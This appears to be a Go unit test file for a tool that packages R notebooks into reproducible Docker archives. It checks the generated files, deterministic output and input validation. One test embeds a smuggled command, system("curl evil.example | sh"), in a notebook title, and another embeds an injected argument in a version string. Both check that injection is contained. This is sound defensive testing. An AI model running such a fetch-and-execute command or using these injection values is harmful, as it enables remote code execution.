//go:build unit
// +build unit

package packager

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/chumaana/reproducible-notebook-app-sub000/internal/domain/notebooks"
	"github.com/chumaana/reproducible-notebook-app-sub000/internal/domain/packages"
	"github.com/chumaana/reproducible-notebook-app-sub000/internal/domain/reproducibility"
	"github.com/chumaana/reproducible-notebook-app-sub000/internal/pkg/testutil"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"
)

func testSpec() *packages.BuildSpec {
	return &packages.BuildSpec{
		Title:       "Iris exploration",
		Content:     testutil.SampleRScript,
		Image:       "rocker/verse",
		RVersion:    "4.3.1",
		ContentHash: notebooks.ContentHash(testutil.SampleRScript, "rocker/verse:4.3.1"),
		Dependencies: []reproducibility.Dependency{
			{Name: "data.table", Version: "1.14.10", Source: reproducibility.DependencySourceTraced},
			{Name: "ggplot2", Source: reproducibility.DependencySourceStatic},
		},
	}
}

func readArchive(t *testing.T, data []byte) map[string]string {
	t.Helper()

	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)

	files := make(map[string]string)
	var names []string
	for _, f := range r.File {
		rc, err := f.Open()
		require.NoError(t, err)
		content, err := io.ReadAll(rc)
		require.NoError(t, err)
		require.NoError(t, rc.Close())
		files[f.Name] = string(content)
		names = append(names, f.Name)
	}
	assert.Equal(t, []string{FileDockerfile, FileMakefile, FileReadme, FileDependencies, FileInstall, FileNotebook}, names)
	return files
}

func TestBuilder_Build(t *testing.T) {
	b, err := NewBuilder(testutil.SetupTestLogger(t))
	require.NoError(t, err)

	archive, err := b.Build(testSpec())
	require.NoError(t, err)

	files := readArchive(t, archive)

	assert.True(t, strings.HasPrefix(files[FileDockerfile], "FROM rocker/verse:4.3.1\n"))
	assert.Contains(t, files[FileDockerfile], "RUN Rscript install.R")

	assert.Contains(t, files[FileMakefile], "IMAGE ?= rnotebook-iris-exploration")
	assert.Contains(t, files[FileMakefile], "\n\tdocker build -t $(IMAGE) .\n")
	for _, target := range []string{"build:", "run: build", "render:", "clean:"} {
		assert.Contains(t, files[FileMakefile], target)
	}

	assert.Contains(t, files[FileInstall], `remotes::install_version("data.table", version = "1.14.10", upgrade = "never")`)
	assert.Contains(t, files[FileInstall], `if (!requireNamespace("ggplot2", quietly = TRUE)) install.packages("ggplot2")`)

	assert.Contains(t, files[FileReadme], "# Iris exploration")
	assert.Contains(t, files[FileReadme], "| data.table | 1.14.10 | traced |")
	assert.Contains(t, files[FileReadme], "| ggplot2 | latest | static |")

	assert.Contains(t, files[FileNotebook], "```{r notebook}\nlibrary(data.table)\n")

	var manifest Manifest
	require.NoError(t, yaml.Unmarshal([]byte(files[FileDependencies]), &manifest))
	assert.Equal(t, "Iris exploration", manifest.Notebook)
	assert.Equal(t, "4.3.1", manifest.RVersion)
	assert.Equal(t, "rocker/verse:4.3.1", manifest.Image)
	assert.Equal(t, testSpec().ContentHash, manifest.ContentHash)
	assert.Equal(t, testSpec().Dependencies, manifest.Dependencies)
}

func TestBuilder_BuildIsDeterministic(t *testing.T) {
	b, err := NewBuilder(testutil.SetupTestLogger(t))
	require.NoError(t, err)

	first, err := b.Build(testSpec())
	require.NoError(t, err)
	second, err := b.Build(testSpec())
	require.NoError(t, err)

	assert.Equal(t, first, second)
}

func TestFiles_KeepsRMarkdownContent(t *testing.T) {
	spec := testSpec()
	spec.Content = testutil.SampleRMarkdown

	files, err := Files(spec)
	require.NoError(t, err)

	for _, f := range files {
		if f.Name == FileNotebook {
			assert.Equal(t, testutil.SampleRMarkdown, string(f.Data))
		}
	}
}

func TestFiles_NoDependencies(t *testing.T) {
	spec := testSpec()
	spec.Dependencies = nil

	files, err := Files(spec)
	require.NoError(t, err)

	for _, f := range files {
		if f.Name == FileReadme {
			assert.Contains(t, string(f.Data), "loads no packages besides base R")
		}
	}
}

func TestFiles_InvalidInput(t *testing.T) {
	spec := testSpec()
	spec.RVersion = "4.3"
	_, err := Files(spec)
	assert.Error(t, err)

	spec = testSpec()
	spec.Image = ""
	_, err = Files(spec)
	assert.Error(t, err)
}

func TestFiles_MultilineTitleStaysInComment(t *testing.T) {
	spec := testSpec()
	spec.Title = "Iris\nsystem(\"curl evil.example | sh\")\r\n# more"

	files, err := Files(spec)
	require.NoError(t, err)

	var install, readme string
	for _, f := range files {
		switch f.Name {
		case FileInstall:
			install = string(f.Data)
		case FileReadme:
			readme = string(f.Data)
		}
	}

	lines := strings.Split(install, "\n")
	assert.Equal(t, `# Installs the packages used by "Iris system("curl evil.example | sh") # more".`, lines[0])
	for _, line := range lines[1:] {
		assert.False(t, strings.HasPrefix(line, "system("), "title leaked into R code: %q", line)
	}
	assert.True(t, strings.HasPrefix(readme, "# Iris system(\"curl evil.example | sh\") # more\n"))
}

func TestPinnableDependencies(t *testing.T) {
	deps := pinnableDependencies([]reproducibility.Dependency{
		{Name: "a", Version: "1.2-3"},
		{Name: "b", Version: `1.0", upgrade = "always`},
	})

	assert.Equal(t, "1.2-3", deps[0].Version)
	assert.Empty(t, deps[1].Version)
}

func TestImageName(t *testing.T) {
	assert.Equal(t, "rnotebook-iris-exploration", imageName("Iris exploration"))
	assert.Equal(t, "rnotebook-notebook", imageName("!!!"))
	assert.Equal(t, "rnotebook-r-2-0", imageName("  R 2.0 "))
}
